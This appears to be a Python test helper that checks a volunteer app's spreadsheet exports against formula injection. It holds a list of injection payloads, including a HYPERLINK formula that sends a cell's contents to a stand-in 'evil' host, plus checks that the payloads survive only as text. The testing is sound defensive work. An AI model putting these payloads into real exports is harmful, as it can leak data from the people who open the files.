"""Formula-injection payloads for exports, and the check that none became a formula."""

import csv
import io

from openpyxl import load_workbook

from volunteer.spreadsheets import FORMULA_STARTS

PAYLOADS = (
    '=HYPERLINK("http://evil/?x="&A1,"点我")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1",
    "\r=1",
)


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet of the workbook, after asserting none is a formula."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == [], formulas
    return cells


def assert_xlsx_keeps_payloads_as_text(data: bytes, expected: set[str]) -> None:
    """No cell is a formula, and each payload is there as text, unchanged."""
    texts = {cell.value for cell in xlsx_cells(data) if cell.data_type == "s"}
    assert expected <= texts, expected - texts


def is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def assert_csv_prefixes_payloads(text: str, expected: set[str]) -> list[list[str]]:
    """Every text field that starts like a formula is behind a `'` (numbers such as `-1.5`
    stay as they are); the payloads are there so."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    fields = {field for row in rows for field in row}
    risky = [f for f in fields if f.startswith(FORMULA_STARTS) and not is_number(f)]
    assert risky == [], risky
    missing = {"'" + payload for payload in expected} - fields
    assert not missing, missing
    return rows
